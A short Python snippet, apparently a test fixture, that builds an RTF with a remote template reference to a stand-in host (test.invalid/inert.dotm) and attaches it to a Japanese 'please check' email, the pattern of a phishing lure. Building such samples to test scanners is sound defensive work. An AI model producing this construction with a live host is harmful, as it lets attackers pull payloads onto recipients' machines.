# An RTF that fetches a template from the web.
from office import *
from parts import *

book = rtf(rb"{\*\template http://test.invalid/inert.dotm}text")
message = mail(join([text_part("ご確認ください。"), file_part("案内.rtf", book)]))
